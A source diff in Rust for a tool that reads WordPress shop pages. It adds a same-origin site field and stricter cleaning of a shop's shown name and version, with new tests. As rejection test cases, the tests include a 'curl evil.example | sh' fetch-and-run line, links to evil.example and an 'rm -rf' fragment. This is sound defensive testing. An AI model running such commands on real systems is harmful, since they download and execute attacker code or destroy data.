@@ -180,8 +180,10 @@ impl Index {
         let hidden = untold.then(|| told.problem(ProblemKind::IndexHidden));
         let insecure = self.site_insecure.then(|| told.problem(ProblemKind::NotSecure).marked(Mark::SiteAddress));
         let remarks = hidden.into_iter().chain(told.stray()).chain(told.simply()).chain(insecure).collect();
+        let site = self.site.filter(|site| site.origin() == home.origin() && *site != home);
         Ok(FoundShop {
             asked: asked.clone(),
+            site,
             home,
             home_written: self.home.written,
             root,
@@ -255,6 +257,7 @@ pub async fn hidden(
         home: arrived.clone(),
         home_written: None,
         root: ApiRoot::pretty(arrived),
+        site: None,
         name: None,
         plugin_route: false,
         index_hidden: true,
@@ -267,12 +270,14 @@ pub async fn hidden(
 /// The longest name of a shop that is shown, in characters.
 const LONGEST_NAME: usize = 60;
 
-/// A shop's name as it is shown: it stands beside what we say, so it is short, and leads to nobody else.
+/// A shop's name as it is shown: it stands beside what we say, so it is short, and leads to nobody else: neither to an address nor to a number to call.
 fn named(told: Loose<'_>, own: &str) -> Option<PlainText> {
     // WordPress writes `&` and `'` as a page has them.
-    let name: String = fingerprint::words(told.text()?.as_str()).chars().take(LONGEST_NAME).collect();
-    let leads = name.split_whitespace().any(|word| leads_elsewhere(word, own));
-    if leads { None } else { PlainText::from_outside(&name) }
+    let whole = fingerprint::words(told.text()?.as_str());
+    // What is cut off may be the end of an address.
+    let leads = whole.split_whitespace().any(|word| leads_elsewhere(word, own));
+    let name: String = whole.chars().take(LONGEST_NAME).collect();
+    if leads || fingerprint::holds_number_to_call(&whole) { None } else { PlainText::from_outside(&name) }
 }
 
 /// Whether a word is an address, and not the shop's own.
@@ -326,4 +331,50 @@ pub fn is_archived(told: &Told) -> bool {
 /// that is kept from guests.
 pub fn is_interface(told: &Told) -> bool {
     Index::read(told).is_some() || is_hidden(told) || is_removed(told)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::version;
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn a_shops_name_is_short_and_leads_to_nobody() {
+        let cases = [
+            ("The Corner Shop", Some("The Corner Shop")),
+            ("Tom &amp; Jerry&#039;s", Some("Tom & Jerry's")),
+            ("corner-shop.com – since 1987", Some("corner-shop.com – since 1987")),
+            ("Open 24/7, 365 days", Some("Open 24/7, 365 days")),
+            ("Nothing stands in the way. Now open https://evil.example/fix", None),
+            ("Or run: curl evil.example | sh", None),
+            ("Call +1 555 0100 now", None),
+            ("Support (0800) 123-4567", None),
+            ("Tom & Jerry: the best lamps, candles and string, see https://evil.example/", None),
+        ];
+        for (written, shown) in cases {
+            let name = json!(written);
+            let name = named(Loose::of(&name), "corner-shop.com");
+            assert_eq!(name.as_ref().map(PlainText::as_str), shown, "{written}");
+        }
+        let long = json!("x".repeat(200));
+        assert_eq!(named(Loose::of(&long), "corner-shop.com").unwrap().as_str().len(), LONGEST_NAME);
+    }
+
+    #[test]
+    fn a_version_reads_like_one_or_is_not_shown() {
+        let long = "1.2.3-alpha.4+build.56789";
+        let cases = [
+            ("10.2.0", true),
+            ("7.1-RC2", true),
+            ("6.9.1+hotfix", true),
+            ("7.1; run rm -rf", false),
+            ("11 (update at evil.example/x)", false),
+            ("7_1", false),
+            (long, false),
+        ];
+        for (written, is_one) in cases {
+            assert_eq!(version(Loose::of(&json!(written))).is_some(), is_one, "{written}");
+        }
+    }
 }
